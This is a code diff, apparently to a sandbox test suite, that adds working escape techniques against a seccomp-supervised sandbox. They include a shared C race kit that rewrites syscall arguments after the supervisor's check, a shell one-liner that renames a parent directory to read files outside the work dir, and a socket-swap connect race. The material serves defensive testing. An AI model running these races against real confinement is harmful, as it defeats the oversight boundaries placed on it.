@@ -67,6 +67,69 @@ def out(fd):
  */
 export const TODO: Record<string, string> = {};
 
+/**
+ * C shared by the racing techniques: whether a seccomp filter is on this process, and a helper
+ * thread that watches the main thread (on another CPU) until, in attempt k, it blocks in its
+ * call (a supervisor handles it then) and runs again (the kernel goes on with it).
+ */
+const C_RACE_KIT = `#include <fcntl.h>
+#include <sched.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/types.h>
+#include <unistd.h>
+
+static int filtered(void) {
+  FILE *f = fopen("/proc/self/status", "r");
+  char line[256];
+  int yes = 0;
+  while (f && fgets(line, sizeof line, f))
+    if (!strncmp(line, "Seccomp:", 8)) yes = atoi(line + 8) != 0;
+  if (f) fclose(f);
+  return yes;
+}
+
+static char state_of(int fd) {
+  char s[512];
+  ssize_t n = pread(fd, s, sizeof s - 1, 0);
+  if (n <= 0) return '?';
+  s[n] = 0;
+  char *p = strrchr(s, ')');
+  return p && p[1] == ' ' ? p[2] : '?';
+}
+
+/* The helper thread, off main_cpu: for each attempt k (current, -1 between attempts) in which the
+ * main thread blocks and then runs again, act(k) at once; after the attempt, acked = k. */
+static void watch_attempts(pid_t main_tid, int main_cpu, atomic_long *current, atomic_long *acked, atomic_int *stop, void (*act)(long)) {
+  long ncpu = sysconf(_SC_NPROCESSORS_ONLN);
+  cpu_set_t set;
+  CPU_ZERO(&set);
+  for (long c = 0; c < ncpu && c < CPU_SETSIZE; c++)
+    if (c != main_cpu) CPU_SET(c, &set);
+  sched_setaffinity(0, sizeof set, &set);
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/task/%d/stat", main_tid);
+  int fd = open(path, O_RDONLY);
+  while (!atomic_load(stop)) {
+    long k = atomic_load(current);
+    if (k < 0) continue;
+    int slept = 0;
+    while (atomic_load(current) == k) {
+      char st = state_of(fd);
+      if (st == 'S') slept = 1;
+      else if (slept && st == 'R') {
+        act(k);
+        break;
+      }
+    }
+    while (atomic_load(current) == k) {}
+    atomic_store(acked, k);
+  }
+}
+`;
+
 export const TECHNIQUES: Technique[] = [
   { name: 'sh-redirect', what: 'shell input redirection', lang: 'sh', code: 'read -r v < ../../shared/x; echo "out: $v"', recorded: true },
   { name: 'cat', what: 'cat of a relative path', lang: 'sh', code: 'echo "out: $(cat ../../shared/x)"', recorded: true },
@@ -288,56 +351,20 @@ static char target[256], decoy[256];
 static size_t at;
 /* A fresh copy of the path per attempt: a late write can only hit an attempt that is over. */
 static char bufs[NBUF][256];
-static atomic_long current = -1; /* the attempt in open(), or -1 */
+static atomic_long current = -1, acked = -1; /* the attempt in open(), or -1 */
 static atomic_int stop;
 static pid_t main_tid;
 static int main_cpu;
 
-static int filtered(void) {
-  FILE *f = fopen("/proc/self/status", "r");
-  char line[256];
-  int yes = 0;
-  while (f && fgets(line, sizeof line, f))
-    if (!strncmp(line, "Seccomp:", 8)) yes = atoi(line + 8) != 0;
-  if (f) fclose(f);
-  return yes;
-}
-
-static char state_of(int fd) {
-  char s[512];
-  ssize_t n = pread(fd, s, sizeof s - 1, 0);
-  if (n <= 0) return '?';
-  s[n] = 0;
-  char *p = strrchr(s, ')');
-  return p && p[1] == ' ' ? p[2] : '?';
+${C_RACE_KIT}
+/* After the block (the supervisor reads the path then), at the wake-up. */
+static void flip(long k) {
+  bufs[k % NBUF][at] = target[at];
 }
 
 static void *flipper(void *arg) {
   (void)arg;
-  long ncpu = sysconf(_SC_NPROCESSORS_ONLN);
-  cpu_set_t set;
-  CPU_ZERO(&set);
-  for (long c = 0; c < ncpu && c < CPU_SETSIZE; c++)
-    if (c != main_cpu) CPU_SET(c, &set);
-  sched_setaffinity(0, sizeof set, &set);
-  char path[64];
-  snprintf(path, sizeof path, "/proc/self/task/%d/stat", main_tid);
-  int fd = open(path, O_RDONLY);
-  while (!atomic_load(&stop)) {
-    long k = atomic_load(&current);
-    if (k < 0) continue;
-    /* Wait for the block (the supervisor reads the path then), then for the wake-up. */
-    int slept = 0;
-    while (atomic_load(&current) == k) {
-      char st = state_of(fd);
-      if (st == 'S') slept = 1;
-      else if (slept && st == 'R') {
-        bufs[k % NBUF][at] = target[at];
-        break;
-      }
-    }
-    while (atomic_load(&current) == k) {}
-  }
+  watch_attempts(main_tid, main_cpu, &current, &acked, &stop, flip);
   return NULL;
 }
 
@@ -587,6 +614,110 @@ for d, dirs, files in os.walk('../../shared'):
         got.append(f + '=' + open(os.path.join(d, f)).read().strip())
 print('out:', ' '.join(got))`,
     state: n => ({ 'shared/x': 'v\n', ...(n > 0 ? { [`shared/deep/er/f${n}`]: `v${n}\n` } : {}) }),
+  },
+  {
+    name: 'rename-ancestor',
+    what: "the work dir's parent renamed, a file read through the new name, the name put back",
+    lang: 'sh',
+    code: 'w=$(cd ../.. && pwd -P); p=$(dirname "$w"); mv "$p" "$p.x" && v=$(cat "$p.x/$(basename "$w")/shared/x"); mv "$p.x" "$p"; echo "out: $v"',
+  },
+  {
+    name: 'socket-swap',
+    what: 'a unix socket swapped onto an inet descriptor, and the address rewritten, as connect goes on (C, pthreads)',
+    lang: 'c',
+    // ENOENT, ENOTDIR (a file where a directory was expected), ECONNREFUSED (there, not a socket).
+    state: n => ({ 'shared/x': 'v\n', ...(n === 1 ? { 'shared/maybe': 'y\n' } : {}), ...(n === 2 ? { 'shared/maybe/y': 'y\n' } : {}) }),
+    code: `/* The main thread connects an inet (UDP) descriptor to an inet address; a second thread, on
+ * another CPU, waits for it to block in connect and wake up again (a seccomp supervisor checked
+ * the descriptor meanwhile and let the call go on), then swaps a unix socket onto the descriptor
+ * and rewrites the address to a unix path: the kernel then probes that path. A unix connect's
+ * error tells what is there. Without a seccomp filter, or if the race is not won, a plain unix
+ * connect to the path gives the same answer. */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <pthread.h>
+#include <sched.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <unistd.h>
+
+#define FD 100
+#define TRIES 5000
+#define NBUF 1024
+static struct sockaddr_un bufs[NBUF], unix_addr;
+static struct sockaddr_in inet_to;
+static atomic_long current = -1, acked = -1;
+static atomic_int stop;
+static pid_t main_tid;
+static int main_cpu, unix_fd;
+
+${C_RACE_KIT}
+static void swap(long k) {
+  dup2(unix_fd, FD);
+  memcpy(&bufs[k % NBUF], &unix_addr, sizeof unix_addr);
+}
+
+static void *flipper(void *arg) {
+  (void)arg;
+  watch_attempts(main_tid, main_cpu, &current, &acked, &stop, swap);
+  return NULL;
+}
+
+static const char *name(int e) {
+  return e == ENOENT ? "ENOENT" : e == ENOTDIR ? "ENOTDIR" : e == ECONNREFUSED ? "ECONNREFUSED" : strerror(e);
+}
+
+static int probe(void) {
+  int s = socket(AF_UNIX, SOCK_STREAM, 0);
+  int r = connect(s, (struct sockaddr *)&unix_addr, sizeof unix_addr);
+  int e = errno;
+  close(s);
+  return r < 0 ? e : 0;
+}
+
+int main(int argc, char **argv) {
+  unix_addr.sun_family = AF_UNIX;
+  snprintf(unix_addr.sun_path, sizeof unix_addr.sun_path, "%s", argc > 1 ? argv[1] : "../../shared/maybe/y");
+  if (!filtered()) return printf("out: %s\\n", name(probe())), 0;
+  inet_to.sin_family = AF_INET;
+  inet_to.sin_port = htons(9);
+  inet_to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  unix_fd = socket(AF_UNIX, SOCK_STREAM, 0);
+  main_tid = (pid_t)syscall(SYS_gettid);
+  main_cpu = sched_getcpu();
+  pthread_t th;
+  pthread_create(&th, NULL, flipper, NULL);
+  for (long tries = 0; tries < TRIES; tries++) {
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    dup2(s, FD);
+    close(s);
+    struct sockaddr_un *b = &bufs[tries % NBUF];
+    memset(b, 0, sizeof *b);
+    memcpy(b, &inet_to, sizeof inet_to);
+    atomic_store(&current, tries);
+    int r = connect(FD, (struct sockaddr *)b, sizeof *b);
+    int e = errno;
+    atomic_store(&current, -1);
+    /* a late swap must not meet the next attempt's check */
+    for (long spin = 0; spin < 10000000 && atomic_load(&acked) != tries; spin++) {}
+    if (r < 0 && (e == ENOENT || e == ENOTDIR || e == ECONNREFUSED)) {
+      atomic_store(&stop, 1);
+      return printf("out: %s\\n", name(e)), 0;
+    }
+  }
+  atomic_store(&stop, 1);
+  printf("out: %s\\n", name(probe()));
+  return 0;
+}
+`,
   },
   {
     name: 'scm-rights',
